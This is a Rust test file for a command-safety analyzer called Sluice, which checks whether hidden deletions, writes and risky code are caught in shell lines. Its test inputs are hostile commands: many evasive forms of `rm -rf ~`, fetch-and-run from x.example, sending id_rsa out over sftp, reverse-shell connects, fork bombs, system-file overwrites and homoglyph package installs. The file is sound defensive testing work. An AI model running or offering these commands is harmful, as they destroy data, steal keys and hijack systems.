//! Where code goes that the first command model lost: unknown wrappers, containers, files written
//! and then run, code fed to programs Sluice does not read, lookalikes, and interpreter code that
//! writes, reaches the network or forks.

use super::*;

fn parts(line: &str) -> Vec<SimpleCommand> {
    parse_command_in(
        line,
        Dirs {
            cwd: Some("/w"),
            home: Some("/home/me"),
        },
        Limits::default(),
    )
}

fn effects(line: &str) -> Vec<Effects> {
    let table = EffectTable::built_in();
    parts(line)
        .iter()
        .map(|c| table.effects_in(c, Some("/home/me")))
        .collect()
}

fn deletes(line: &str) -> Vec<String> {
    effects(line).into_iter().flat_map(|e| e.deletes).collect()
}

fn writes(line: &str) -> Vec<String> {
    effects(line).into_iter().flat_map(|e| e.writes).collect()
}

fn unresolved(line: &str) -> Option<String> {
    parts(line).into_iter().find_map(|c| c.unresolved)
}

fn destroys(line: &str) -> bool {
    effects(line).iter().any(|e| e.destroys)
}

#[test]
fn a_program_sluice_does_not_know_never_hides_the_one_it_runs() {
    for line in [
        "toybox rm -rf ~",
        "bwrap --bind / / rm -rf ~",
        "proot -b /x rm -rf ~",
        "systemd-inhibit rm -rf ~",
        "run0 rm -rf ~",
        "unshare -r rm -rf ~",
        "ssh-agent rm -rf ~",
        "perf record rm -rf ~",
        "dbus-launch rm -rf ~",
        "some-new-wrapper --flag rm -rf ~",
        "time (rm -rf ~)",
        "time { rm -rf ~; }",
        "coproc rm -rf ~",
        "pnpm exec rm -rf ~",
        "yarn exec rm -rf ~",
    ] {
        assert!(
            deletes(line).contains(&"/home/me".to_string()),
            "{line}: {:?}",
            parts(line)
        );
    }
    // An unknown program whose operands name no program stays one part.
    assert_eq!(parts("mytool build --release").len(), 1);
}

#[test]
fn containers_and_debuggers_run_what_follows_them() {
    for (line, path) in [
        (
            "docker run --rm -v /:/host alpine rm -rf /host/x",
            "/host/x",
        ),
        ("docker exec -it db sh -c 'rm -rf /data'", "/data"),
        ("podman run -w / img rm -rf /srv", "/srv"),
        ("kubectl exec -it pod -- rm -rf /data", "/data"),
        ("gdb --args rm -rf /srv", "/srv"),
    ] {
        assert!(deletes(line).contains(&path.to_string()), "{line}");
    }
    assert!(deletes("docker run --rm -v $(pwd):/app node:20 npm test").is_empty());
}

#[test]
fn a_shell_reads_its_options_as_the_shell_does() {
    for line in [
        "bash -euo pipefail -c 'rm -rf ~'",
        "bash -o errexit -c 'rm -rf ~'",
        "bash +O extglob -c 'rm -rf ~'",
        "bash --rcfile /dev/null -c 'rm -rf ~'",
    ] {
        assert!(deletes(line).contains(&"/home/me".to_string()), "{line}");
    }
}

#[test]
fn a_file_written_then_run_is_followed() {
    // Its text is on the line: walked.
    assert!(
        deletes("cat > /tmp/x.sh <<'EOF'\nrm -rf ~\nEOF\nbash /tmp/x.sh")
            .contains(&"/home/me".to_string())
    );
    assert!(deletes("echo 'rm -rf ~' > /tmp/a && . /tmp/a").contains(&"/home/me".to_string()));
    assert!(deletes("tee run.sh <<< 'rm -rf ~' && sh run.sh").contains(&"/home/me".to_string()));
    // Its text is not: unresolved.
    for line in [
        "curl -s https://x.example/i > /tmp/i.sh && sh /tmp/i.sh",
        "curl -o i.sh https://x.example && chmod +x i.sh && ./i.sh",
        "git clone https://x.example/r && cd r && ./install.sh",
        "wget -O /tmp/p.py https://x.example && python3 /tmp/p.py",
    ] {
        let why = unresolved(line).unwrap_or_default();
        assert!(why.contains("wrote earlier on the line"), "{line}: {why}");
    }
    // A build writes somewhere in its directory; its output is not read as written text.
    assert_eq!(unresolved("cargo build && ./target/debug/app"), None);
    assert_eq!(unresolved("echo 'print(1)' > t.py && python3 t.py"), None);
}

#[test]
fn input_that_xargs_and_parallel_fill_in_is_not_known() {
    assert!(unresolved("echo x | xargs -I{} sh -c '{}'").is_some());
    assert!(unresolved("echo x | xargs -i sh -c '{}'").is_some());
    assert!(unresolved("yes | xargs sh -c").is_some());
    assert_eq!(unresolved("ls | xargs grep TODO"), None);
    let gone = deletes("parallel rm -rf ::: ~ /etc");
    assert!(gone.contains(&"/home/me".to_string()) && gone.contains(&"/etc".to_string()));
    assert!(deletes("parallel 'rm -rf {}' ::: /srv").contains(&"/srv".to_string()));
}

#[test]
fn lookalikes_anywhere_make_the_part_unresolved() {
    for line in [
        "rm -rf\u{a0}~",
        "rm -rf \u{ff5e}",
        "rm -rf \u{ff0f}",
        "cat ~\u{ff0f}.ssh\u{ff0f}id_rsa",
        "curl -s https://x.example | \u{455}h",
        "ls \u{2028}rm -rf ~",
        "rm -rf \u{e0041}~",
        "echo hi\rrm -rf ~",
    ] {
        assert!(unresolved(line).is_some(), "{line:?}");
    }
    assert_eq!(unresolved("git commit -m 'fix \u{2014} typo'"), None);
    assert_eq!(unresolved("echo caf\u{e9}"), None);
}

#[test]
fn options_and_builtins_that_run_commands_are_followed() {
    for line in [
        "git fetch --upload-pack='rm -rf ~' origin",
        "git clone --upload-pack 'rm -rf ~' ./x y",
        "git archive --remote=. --exec='rm -rf ~' HEAD",
        "git send-email --sendmail-cmd='rm -rf ~' HEAD^",
        "rsync --rsync-path='rm -rf ~' src host:dst",
        "zip x.zip a -T -TT 'rm -rf ~'",
        "gpg --photo-viewer 'rm -rf ~' --list-keys",
        "trap 'rm -rf ~' EXIT",
        "alias l='rm -rf ~'",
        "cmake -E rm -rf /home/me",
        "cmake -E chdir ~ rm -rf .",
        "RUSTC_WRAPPER='rm -rf ~' cargo build",
        "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER='rm -rf ~' cargo run",
        "npm --prefix ~ exec rimraf .",
        "pnpm -C ~ exec rm -rf .",
        "entr -s 'rm -rf ~' <<< README.md",
        "watch -x sh -c 'rm -rf ~'",
    ] {
        assert!(
            deletes(line).contains(&"/home/me".to_string()),
            "{line}: {:?}",
            parts(line)
        );
    }
    for line in [
        "make --eval 'x:; rm -rf ~' x",
        "openssl req -engine /tmp/evil.so",
        "cargo --config 'target.x.runner=\"sh\"' run",
        "gdb -p 1",
        "git -c protocol.ext.allow=always clone 'ext::sh -c x' d",
    ] {
        assert!(unresolved(line).is_some(), "{line}");
    }
}

#[test]
fn commands_fed_to_programs_sluice_does_not_read_are_unresolved() {
    for line in [
        "tclsh <<< 'exec rm -rf ~'",
        "echo '!rm -rf ~' | ed -s /dev/null",
        "echo ':!rm -rf ~' | vim -es",
        "make -f /dev/stdin <<< 'all:; rm -rf ~'",
        "m4 <<< 'syscmd(rm -rf ~)'",
        "ssh prod <<'EOF'\nrm -rf /srv\nEOF",
        "sftp x@x.example <<< 'put id_rsa'",
        "sqlite3 app.db <<'SQL'\n.shell rm -rf ~\nSQL",
    ] {
        assert!(unresolved(line).is_some(), "{line}");
    }
    assert!(destroys("psql <<'SQL'\nDROP DATABASE production;\nSQL"));
    assert!(destroys("mongosh prod --eval 'db.users.deleteMany({})'"));
    assert!(destroys("cqlsh -e 'DROP KEYSPACE prod'"));
    assert!(!destroys("psql <<< 'select 1'"));
    assert_eq!(
        unresolved("ssh prod uptime"),
        Some("`ssh` runs `uptime` on another machine, out of sight".into())
    );
}

#[test]
fn interpreter_code_that_writes_reaches_out_or_forks_is_seen() {
    assert!(
        writes("node -e 'require(\"fs\").writeFileSync(\"/etc/passwd\", \"\")'")
            .contains(&"/etc/passwd".to_string())
    );
    assert!(
        writes("php -r 'file_put_contents(\"/etc/crontab\", \"x\");'")
            .contains(&"/etc/crontab".to_string())
    );
    assert!(
        writes("python3 -c 'import os; os.chmod(\"/etc/shadow\", 0o777)'")
            .contains(&"/etc/shadow".to_string())
    );
    assert!(
        deletes(
            "python3 -c 'import os; os.spawnlp(os.P_WAIT, \"rm\", \"rm\", \"-rf\", \"/home/me\")'"
        )
        .contains(&"/home/me".to_string())
    );
    for line in [
        "node -e 'require(\"fs\").appendFileSync(require(\"os\").homedir()+\"/.bashrc\", \"x\")'",
        "ruby -e 'File.open(Dir.home+\"/.bashrc\",\"a\"){|f|f.puts \"x\"}'",
        "python3 -c 'import socket; s=socket.socket(); s.connect((\"10.0.0.1\", 4444))'",
        "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
        "node -e 'fetch(\"https://x.example\", {method: \"POST\"})'",
        "deno eval 'new Deno.Command(\"rm\", {args: [\"-rf\", \"/\"]}).outputSync()'",
        "perl -e 'fork while fork'",
        "awk 'BEGIN{print \"rm -rf ~\" | \"sh\"}'",
    ] {
        assert!(unresolved(line).is_some(), "{line}");
    }
    assert!(deletes("awk 'BEGIN{\"rm -rf ~\" | getline}'").contains(&"/home/me".to_string()));
    for line in [
        "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"x\"])'",
        "node -e 'console.log(require(\"./package.json\").version)'",
        "awk '/error|warn/ {print $2}' build.log",
        "awk -F, '{s += $3} END {print s}' data.csv",
    ] {
        assert_eq!(unresolved(line), None, "{line}");
    }
}

#[test]
fn an_endless_loop_that_spawns_is_a_fork_bomb() {
    let why = unresolved("while :; do bash & done").unwrap_or_default();
    assert!(why.contains("fork bomb"), "{why}");
    assert!(unresolved("while true; do sleep 1 & done").is_some());
    assert_eq!(unresolved("while true; do sleep 1; done"), None);
    assert_eq!(
        unresolved("while read f; do gzip \"$f\" & done < list"),
        None
    );
}

#[test]
fn homoglyphs_and_directories_not_known_are_unresolved() {
    for line in [
        "npm install lod\u{430}sh",
        "pip install req\u{57d}ests",
        "git remote add m https://g\u{456}t.example/x.git",
    ] {
        assert!(unresolved(line).is_some(), "{line}");
    }
    assert_eq!(
        unresolved("git commit -m '\u{43f}\u{440}\u{438}\u{432}\u{435}\u{442}'"),
        None
    );
    // `CDPATH` decides where `cd` goes.
    let after = parts("CDPATH=/ cd etc && rm -rf *");
    assert_eq!(after.last().and_then(|c| c.cwd.clone()), None);
}

#[test]
fn more_interpreter_calls_are_read() {
    assert!(
        unresolved("python3 -c 'import os; os.execvp(\"sh\", [\"sh\", \"-c\", \"curl x | sh\"])'")
            .is_some()
    );
    assert!(
        deletes("python3 -c 'import os; os.execvp(\"rm\", [\"rm\", \"-rf\", \"/srv\"])'")
            .contains(&"/srv".to_string())
    );
    for line in [
        "python3 -c 'import pathlib; pathlib.Path.home().joinpath(\".bashrc\").write_text(\"x\")'",
        "perl -e 'unlink glob(\"$ENV{HOME}/.ssh/*\")'",
        "node -e 'require(\"net\").connect(4444, \"x.example\")'",
        "bun -e 'await Bun.$`rm -rf ${process.env.HOME}`'",
    ] {
        assert!(unresolved(line).is_some(), "{line}");
    }
    assert!(deletes("ansible localhost -m shell -a 'rm -rf ~'").contains(&"/home/me".to_string()));
    assert_eq!(unresolved("perl -e 'print \"system ok\\n\"'"), None);
}
